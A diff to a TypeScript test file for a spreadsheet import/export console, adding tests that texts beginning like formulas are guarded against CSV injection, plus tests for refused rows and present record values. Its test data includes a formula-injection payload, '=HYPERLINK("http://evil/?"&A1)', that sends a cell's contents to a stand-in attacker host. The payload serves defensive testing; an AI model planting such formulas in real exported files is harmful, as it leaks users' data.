@@ -28,7 +28,7 @@ import {
   textOfFile,
 } from '../../console/src/imports/refused-rows.js';
 import { unreadColumns } from '../../console/src/imports/unread-columns.js';
-import { namedRecords, shownCell } from '../../console/src/imports/shown-cell.js';
+import { namedRecords, presentCell, shownCell } from '../../console/src/imports/shown-cell.js';
 import { numberText, sheetRows } from '../../console/src/imports/sheet-rows.js';
 import { listPage } from '../../console/src/tree/list-page.js';
 import { titledHeader, withTitles } from '../../console/src/listing/titled-header.js';
@@ -36,7 +36,9 @@ import { descriptionOf } from '../../console/src/service/description.js';
 import { moduleDescription } from '../../src/contract/modules/module-description.js';
 import { csvReader } from '../../src/domain/records/csv-rows.js';
 import { isBlank } from '../../src/domain/records/file-rows.js';
+import { cellValue } from '../../src/contract/records/import-cells.js';
 import { importColumns } from '../../src/contract/records/import-columns.js';
+import { guarded, unguarded } from '../../src/contract/values/formula-guard.js';
 import type { ImportError } from '../../src/contract/records/import-answer.js';
 import { department } from '../../src/contract/modules/department.js';
 import { user } from '../../src/contract/modules/user.js';
@@ -140,6 +142,61 @@ describe('a sheet', () => {
       ['A-1', '2026-11-23', '2026-11-23 00:00:00', '1234.50', '2026-11-23 09:30:00'],
       ['A-2', '', '2026-11-23 09:30:00', 'true', '2026-11-23'],
     ]);
+  });
+});
+
+describe('a text of a sheet that begins like a formula', () => {
+  const TEXTS = ['=HYPERLINK("http://evil/?"&A1)', '@SUM(1)', '+1', '-5', ' =1', 'a;=1', '\t=1', "'=1", "''=1", "'a"];
+  const header = ['合同编号', 'remarks', '金额', '排序', 'statusText', '状态'];
+  const written = (text: string) => csvTextOf(sheetRows([header, header.map(() => text)], form));
+
+  it('is guarded in each column of a download, and a number is not', async () => {
+    for (const text of TEXTS) {
+      const sent = written(text);
+      const corrections = { changes: [], skipped: new Set([csvRecords(sent)[1]!.line]) };
+      for (const file of [
+        correctedFile(sent, { leftOut: [] }, corrections),
+        leftOutFile(sent, { leftOut: [] }, corrections),
+      ])
+        for (const { value } of csvRecords((await file.text()).slice(1))[1]!.cells)
+          if (!/^[+-]\d$/.test(value)) expect(guarded(unguarded(value)), text).to.equal(value);
+    }
+  });
+
+  it('means the same after an import as it did before it was guarded', () => {
+    const columns = importColumns(importedModule(module));
+    for (const text of TEXTS) {
+      const cells = csvRecords(written(text))[1]!.cells.map(({ value }) => value);
+      for (const [at, name] of ['number', 'remarks'].entries())
+        expect(cellValue(columns[name]!, cells[at]!), `${name} ${text}`).to.equal(cellValue(columns[name]!, text));
+      for (const [at, name] of ['', '', 'amount', 'sort', '', 'status'].entries())
+        if (name !== '')
+          expect(cellFault(columns[name]!, cells[at]!), text).to.deep.equal(cellFault(columns[name]!, text));
+    }
+    expect(cellValue(columns['number']!, csvRecords(written('=1'))[1]!.cells[0]!.value)).to.equal('=1');
+    // a file that was exported as CSV and saved as a workbook has the mark in its cells
+    expect(csvRecords(written("'=1"))[1]!.cells[0]!.value).to.equal("'=1");
+  });
+
+  it('stays as it is where it is a password', () => {
+    const rows = [
+      ['用户名', '密码'],
+      ['li', '=Secret#2026'],
+    ];
+    expect(sheetRows(rows, userModule.form)[1]).to.deep.equal(['li', '=Secret#2026']);
+  });
+
+  it('is shown on the page without the mark', () => {
+    const [row] = fileRows(written('=1'), module, true).rows;
+    const cell = { field: importColumns(importedModule(module))['remarks']!, text: row!.cells[1]!.value };
+    expect([
+      row!.name,
+      shownCell(
+        cell,
+        ({ title }) => title,
+        () => undefined,
+      ),
+    ]).to.deep.equal(['=1', '=1']);
   });
 });
 
@@ -501,6 +558,22 @@ describe('the inputs for wrong cells', () => {
     expect(input(userModule, 'roleIds', '经理').hidden).to.equal('经理');
   });
 
+  it('tell the text beside an empty number of a new record, if no choice has it', () => {
+    const file = fileRows('id,version,状态编号,状态\r\n,,,启用\r\n,,1,启用\r\n7,1,,启用\r\n,,,停用\r\n', module, false);
+    const rows = refusedRows(
+      [2, 3, 4, 5].map((line) => ({ ...error, line, field: 'status' })),
+      file,
+      module,
+    );
+    expect(rows.map(hiddenText)).to.deep.equal(['启用', undefined, undefined, undefined]);
+    expect(rows.map(({ id }) => id)).to.deep.equal(['', '', '7', '']);
+    const [wrong] = rows.map((row) => row.wrong!);
+    expect(cellFault(wrong!.input, wrong!.text)?.rule).to.equal('notOffered');
+    expect(mendedCells(rows, { 'line2-status': 2 }, ['line2-status'])).to.deep.equal([
+      { cell: wrong!.cell, value: '2' },
+    ]);
+  });
+
   it('write a cell that means the chosen or typed value', () => {
     for (const [column, typed, cell] of [
       ['金额', '1,234.5', '1234.50'],
@@ -572,10 +645,12 @@ describe('the rows of an import that are not refused', () => {
 
   it('have what they do and the new values, as far as the service tells it', () => {
     const rows = acceptedRows({ lines }, fileRows(text, module, false), module, new Set());
-    expect(rows.map(({ row, effect, values: changed }) => [row.row, row.name, effect, changed])).to.deep.equal([
-      [2, 'HT-1', 'added', [{ field: 'sort', text: '1' }]],
+    const told = rows.map(({ row, id, effect, values: changed }) => [row.row, id, row.name, effect, changed]);
+    expect(told).to.deep.equal([
+      [2, '', 'HT-1', 'added', [{ field: 'sort', text: '1' }]],
       [
         3,
+        '7',
         'HT-2',
         'updated',
         [
@@ -583,7 +658,7 @@ describe('the rows of an import that are not refused', () => {
           { field: 'sort', text: '5' },
         ],
       ],
-      [5, 'HT-3', 'unchanged', []],
+      [5, '8', 'HT-3', 'unchanged', []],
     ]);
   });
 
@@ -699,6 +774,23 @@ describe('a cell of a row that can be imported', () => {
     const noted = (name: string, text: string) => shownCell(cellOf(name, text), ({ title }) => title, nameOf, noteOf);
     expect(noted('roleIds', '1,4,9')).to.equal('role 1 (1) · scope 1, role 4 (4), 9 · scope 9');
     expect(noted('departmentId', '1')).to.equal('department 1 (1)');
+  });
+
+  it('has beside it the present value of its record, read in the same way', () => {
+    const record = { status: 2, departmentId: 4, roleIds: [1, 4], validUntil: null, mustChange: false };
+    const present = (name: string) => {
+      const cell = presentCell(columns, name, record);
+      return cell && shownCell(cell, ({ title }) => title, nameOf);
+    };
+    expect(['status', 'departmentId', 'roleIds', 'validUntil', 'mustChange'].map(present)).to.deep.equal([
+      '停用',
+      'department 4 (4)',
+      'role 1 (1), role 4 (4)',
+      '',
+      '否',
+    ]);
+    // a password is never told, and a record that is not read has no values
+    expect([present('password'), presentCell(columns, 'status', undefined)]).to.deep.equal([undefined, undefined]);
   });
 
   it('names its records, each once', () => {
